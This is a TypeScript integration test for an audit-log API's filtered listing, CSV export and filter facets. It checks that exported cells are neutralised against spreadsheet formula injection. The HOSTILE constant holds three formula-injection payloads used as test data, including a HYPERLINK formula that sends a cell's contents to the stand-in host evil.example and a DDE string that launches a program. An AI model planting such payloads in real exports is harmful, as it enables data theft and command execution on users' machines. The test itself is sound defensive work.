/**
 * Issue 18, the audit log for the auditor: GET /audit-log filtered by user, action, result, city and
 * time with pages; GET /audit-log/export the filtered rows as CSV (every page, cells that would run
 * as a formula neutralised), the export itself audited; GET /audit-log/facets the filter pickers' values.
 */
import { parse } from 'csv-parse/sync';
import { createTestDatabase, type TestDatabase } from '../support/database';
import { startApi, type RunningApi } from './apiSupport/apiProcess';
import { call, login } from './apiSupport/http';
import { seedCampaignWithCases, seedUsers, USERS, type UserName } from './apiSupport/seed';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"详情")', "+cmd|' /C calc'!A0", '@SUM(1+1)'];

let db: TestDatabase;
let api: RunningApi;
const tokens: Partial<Record<UserName, string>> = {};
const get = async (path: string, who: UserName = 'auditor') => {
  const r = await call(api.url, 'GET', path, { token: tokens[who] });
  if (r.status !== 200) throw new Error(`${who} GET ${path}: ${r.status} ${r.text}`);
  return r;
};
const insert = (a: { at: string; user: string | null; city?: string | null; action: string; target?: string | null; result?: string }) =>
  db.pool.query(
    `INSERT INTO audit_log (at, request_id, user_id, role, city_code, action, target, result, status) VALUES ($1, 'seed', $2, 'city_officer', $3, $4, $5, $6, 200)`,
    [a.at, a.user, a.city ?? null, a.action, a.target ?? null, a.result ?? 'ok'],
  );

beforeAll(async () => {
  db = await createTestDatabase();
  await seedUsers(db.pool);
  const seeded = await seedCampaignWithCases(db.pool, { campaignId: 'audit', cities: ['2201', '2202'], persons: 2 });
  // A year-old history: three writes, one of them hostile text in every text cell a spreadsheet would run.
  await insert({ at: '2024-01-05T02:00:00Z', user: 'officer2201', city: '2201', action: 'case.decide', target: 'caseId=x-1' });
  await insert({ at: '2024-01-06T02:00:00Z', user: 'coordinator', action: 'deadline.extend', target: 'campaignId=audit,cityCode=2202' });
  await insert({ at: '2024-01-07T02:00:00Z', user: HOSTILE[2], action: 'case.decide', target: HOSTILE[0], result: HOSTILE[1] });
  api = await startApi({ databaseUrl: db.url, fakeCommands: true });
  // Neither the responsible persons (负责人) nor the 人社 and 公积金 users log in: the counts below are of the five
  // plain 住建 users' log-ins.
  const plain = (name: UserName) =>
    !('responsible' in USERS[name]) && ['city_officer', 'province_coordinator', 'supervisor', 'auditor'].includes(USERS[name].role);
  for (const u of (Object.keys(USERS) as UserName[]).filter(plain)) tokens[u] = await login(api.url, u, USERS[u].password);
  // Today's: audited reads and writes through the API.
  await get(`/campaigns/audit/cities/2201/cases`, 'officer2201');
  await get(`/campaigns/audit/cities/2202/cases`, 'supervisor');
  await get(`/cases/${seeded.caseIds['2202'][0]}`, 'coordinator');
  await call(api.url, 'POST', '/alerts/acknowledgements', { token: tokens.supervisor, body: { alertKeys: ['none/1'] } });
});

afterAll(async () => {
  await api?.stop();
  await db?.drop();
});

describe('GET /audit-log', () => {
  it('filters by user, action, result and time, newest first, with the total and pages', async () => {
    const byUser = (await get('/audit-log?userId=officer2201')).body;
    expect(byUser.items.map((e: { action: string }) => e.action)).toEqual(['case.list', 'auth.login', 'case.decide']);
    const decided = (await get('/audit-log?action=case.decide&from=2024-01-01T00:00:00Z&to=2024-01-07T00:00:00Z')).body;
    expect(decided.items.map((e: { target: string }) => e.target)).toEqual(['caseId=x-1']);
    const page = (await get('/audit-log?pageSize=2&page=2')).body;
    const all = (await get('/audit-log?pageSize=100')).body;
    expect([page.total, page.page, page.pageSize]).toEqual([all.total, 2, 2]);
    expect(page.items).toEqual(all.items.slice(2, 4));
    expect(all.items.map((e: { id: number }) => e.id)).toEqual([...all.items.map((e: { id: number }) => e.id)].sort((a: number, b: number) => b - a));
  });

  it("finds a city's entries: its officers' and every request that named the city", async () => {
    const city = (await get('/audit-log?cityCode=2202&pageSize=100')).body;
    const lines = city.items.map((e: { userId: string; action: string }) => `${e.userId} ${e.action}`);
    // officer2202's log-in is recorded with their city.
    expect(lines).toEqual(['supervisor case.list', 'officer2202 auth.login', 'coordinator deadline.extend']);
    const own = (await get('/audit-log?cityCode=2201&pageSize=100')).body.items;
    expect(own.map((e: { action: string }) => e.action)).toEqual(['case.list', 'auth.login', 'case.decide']);
  });

  it('answers the auditor only', async () => {
    for (const who of ['supervisor', 'coordinator', 'officer2201'] as const) {
      for (const path of ['/audit-log', '/audit-log/export', '/audit-log/facets']) {
        expect((await call(api.url, 'GET', path, { token: tokens[who] })).status).toBe(403);
      }
    }
  });
});

describe('GET /audit-log/export', () => {
  it('exports every filtered row as CSV, in the order the list shows them, text that would run as a formula neutralised', async () => {
    const filter = 'from=2024-01-01T00:00:00Z&to=2024-02-01T00:00:00Z';
    const listed = (await get(`/audit-log?${filter}&pageSize=100`)).body.items;
    const r = await get(`/audit-log/export?format=csv&${filter}`);
    expect(r.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(r.headers.get('content-disposition')).toMatch(/attachment; filename="audit-log-.*\.csv"/);
    // A byte-order mark first, so Excel reads the Chinese (fetch's text() would hide it).
    const raw = Buffer.from(
      await (await fetch(`${api.url}/audit-log/export?${filter}`, { headers: { authorization: `Bearer ${tokens.auditor}` } })).arrayBuffer(),
    );
    expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows]: string[][] = parse(r.text.replace(/^\uFEFF/, ''));
    expect(header).toEqual(['编号', '时间', '请求编号', '用户', '角色', '所在市（州）', '操作', '对象', '结果', 'HTTP状态', '详情', '承办人']);
    expect(rows.map((x) => Number(x[0]))).toEqual(listed.map((e: { id: number }) => e.id));
    const hostile = rows.find((x) => x[3].includes('SUM'))!;
    expect([hostile[3], hostile[7], hostile[8]]).toEqual([`'${HOSTILE[2]}`, `'${HOSTILE[0]}`, `'${HOSTILE[1]}`]);
    expect(rows.map((x) => x[6])).toEqual(['case.decide', 'deadline.extend', 'case.decide']);
  });

  it('is itself audited, with its filters and the number of rows, and leaves its own entry out of the file', async () => {
    const r = await get('/audit-log/export?action=case.list');
    const rows = parse(r.text.replace(/^\uFEFF/, '')).slice(1);
    expect(rows).toHaveLength(2);
    const audit = await db.pool.query(`SELECT user_id, target, detail FROM audit_log WHERE action = 'audit.export' ORDER BY id`);
    expect(audit.rows.at(-1)).toEqual({
      user_id: 'auditor',
      target: 'audit-log,rows=2',
      detail: { format: 'csv', rows: 2, filter: { action: 'case.list' } },
    });
    const all = await get('/audit-log/export?action=audit.export&result=ok');
    const exported = parse(all.text.replace(/^\uFEFF/, ''))
      .slice(1)
      .map((x: string[]) => Number(x[0]));
    const logged = await db.pool.query<{ id: string }>(`SELECT id FROM audit_log WHERE action = 'audit.export' AND result = 'ok' ORDER BY id DESC`);
    // Every earlier export is in the file, the export that wrote it is not.
    expect(exported).toEqual(logged.rows.slice(1).map((x) => Number(x.id)));
  });

  it('reads a large export in pages: every row once', async () => {
    await db.pool.query(
      `INSERT INTO audit_log (at, request_id, user_id, action, result, status) SELECT '2023-06-01T00:00:00Z', 'bulk', 'bulk', 'bulk.write', 'ok', 200 FROM generate_series(1, 12001)`,
    );
    const r = await get('/audit-log/export?userId=bulk');
    const ids = parse(r.text.replace(/^\uFEFF/, ''))
      .slice(1)
      .map((x: string[]) => Number(x[0]));
    expect(ids).toHaveLength(12001);
    expect(new Set(ids).size).toBe(12001);
  });
});

describe('GET /audit-log/facets', () => {
  it('lists the users and actions that occur, and the possible results', async () => {
    const f = (await get('/audit-log/facets')).body;
    expect(f.users).toEqual(expect.arrayContaining(['auditor', 'coordinator', 'officer2201', 'supervisor', HOSTILE[2]]));
    expect(f.users).toEqual([...f.users].sort());
    expect(new Set(f.users).size).toBe(f.users.length);
    expect(f.actions).toEqual(expect.arrayContaining(['alert.acknowledge', 'case.decide', 'case.list', 'case.read', 'deadline.extend']));
    expect(f.results).toEqual(expect.arrayContaining(['ok', 'replayed', 'forbidden', 'not_found']));
  });
});
